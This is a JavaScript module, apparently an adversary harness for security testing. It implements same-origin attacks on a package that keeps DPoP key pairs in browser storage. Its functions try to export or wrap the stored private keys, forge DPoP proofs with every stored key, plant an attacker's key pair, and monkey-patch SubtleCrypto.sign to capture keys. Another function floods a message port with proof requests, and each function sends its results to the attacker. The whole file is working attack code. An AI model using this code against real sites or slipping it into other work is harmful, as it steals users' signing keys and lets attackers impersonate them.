// What a script of the origin can do with the key pairs that the package keeps. Each function runs in the page and stands
// alone.

/** Takes every key pair in the store and tries to get at its private part in all the ways there are. */
export async function exportKeys(evil) {
  const values = (await evil.records()).map(([, value]) => value);
  const pairs = values.map(({ pair }) => pair).filter(Boolean);
  const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, ["wrapKey", "unwrapKey"]);
  const wrapAlgorithm = { name: "AES-GCM", iv: new Uint8Array(12) };
  const got = [];
  for (const { privateKey } of pairs) {
    const tries = ["jwk", "pkcs8", "raw"].flatMap((format) => [
      () => crypto.subtle.exportKey(format, privateKey),
      () => crypto.subtle.wrapKey(format, privateKey, wrapping, wrapAlgorithm),
    ]);
    for (const attempt of tries)
      await attempt().then(
        (key) => (got[got.length] = key),
        () => {},
      );
    for (const copy of [privateKey, structuredClone(privateKey)]) if (JSON.stringify(copy) !== "{}") got.push(JSON.stringify(copy));
  }
  await evil.post({ pairs: pairs.length, got });
}

/** Signs these claims with every key in the store. */
export async function signInPlace(evil, claims) {
  const values = (await evil.records()).map(([, value]) => value);
  const encode = (bytes) =>
    btoa(String.fromCharCode(...bytes))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
  const json = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
  const proofs = [];
  for (const { pair } of values.filter((value) => value.pair)) {
    const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
    const input = `${json({ typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } })}.${json(claims)}`;
    const algorithm = { name: "ECDSA", hash: "SHA-256" };
    const signature = await crypto.subtle.sign(algorithm, pair.privateKey, new TextEncoder().encode(input));
    proofs.push(`${input}.${encode(new Uint8Array(signature))}`);
  }
  await evil.post({ proofs });
}

/** Puts a pair of the attacker's into the place of the one that outlives sign-ins; the holder can't see where it is from. */
export async function plantKey(evil, { jwk }) {
  const algorithm = { name: "ECDSA", namedCurve: "P-256" };
  const { d, ...open } = jwk;
  const privateKey = await crypto.subtle.importKey("jwk", { ...open, d, key_ops: ["sign"] }, algorithm, false, ["sign"]);
  const publicKey = await crypto.subtle.importKey("jwk", { ...open, key_ops: ["verify"] }, algorithm, true, ["verify"]);
  await evil.plantRecords([["key", { pair: { privateKey, publicKey }, created: Infinity }]]);
}

/**
 * Waits for the package to sign something, and keeps the key: `globalThis.signAhead(claims)` then signs whatever is wanted
 * and sends it to the attacker.
 */
export function hookSigning(evil) {
  const keys = new Set();
  const { sign, exportKey } = SubtleCrypto.prototype;
  SubtleCrypto.prototype.sign = function (algorithm, key, data) {
    keys.add(key);
    return sign.call(this, algorithm, key, data);
  };
  const seen = new Set();
  SubtleCrypto.prototype.exportKey = function (format, key) {
    seen.add(key);
    return exportKey.call(this, format, key);
  };
  const encode = (bytes) =>
    btoa(String.fromCharCode(...bytes))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
  const json = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
  globalThis.signAhead = async ({ jwk, ...claims }) => {
    const proofs = [];
    for (const key of keys) {
      const input = `${json({ typ: "dpop+jwt", alg: "ES256", jwk })}.${json(claims)}`;
      const signature = await sign.call(crypto.subtle, { name: "ECDSA", hash: "SHA-256" }, key, new TextEncoder().encode(input));
      proofs.push(`${input}.${encode(new Uint8Array(signature))}`);
    }
    await evil.post({ proofs });
  };
}

/** Asks the holder for proofs in every way that messages have, and sends the attacker all its answers. */
export async function askForProofs(evil, { url, elsewhere, iat }) {
  const port = await evil.connect();
  const answers = [];
  evil.hear(port, (answer) => answers.push(answer));
  port.start?.();
  const wishes = { iat, htu: elsewhere, htm: "POST", nonce: "n", time: iat, now: iat, date: iat, claims: { iat, htu: elsewhere } };
  let id = 1_000_000;
  const operations = ["prove", "proof", "sign", "makeKey", "keys", "dpop", "exportKey", "jwk", "thumbprint"];
  for (const op of operations) port.postMessage({ v: 1, id: ++id, op, url, href: url, options: wishes, ...wishes });
  const headers = [
    ["x-dpop-time", String(iat)],
    ["date", new Date(iat * 1000).toUTCString()],
  ];
  port.postMessage({ v: 1, id: ++id, op: "fetch", url: elsewhere, headers, options: wishes, ...wishes });
  port.postMessage({ v: 1, id: ++id, op: "fetch", url, headers: [["dpop", "mine"]], options: wishes, ...wishes });
  const last = ++id;
  port.postMessage({ v: 1, id: last, op: "fetch", url, headers, options: wishes, ...wishes });
  while (!answers.some((answer) => answer.id === last)) await new Promise((resolve) => setTimeout(resolve, 10));
  await evil.post({ answers: evil.strings(answers) });
}
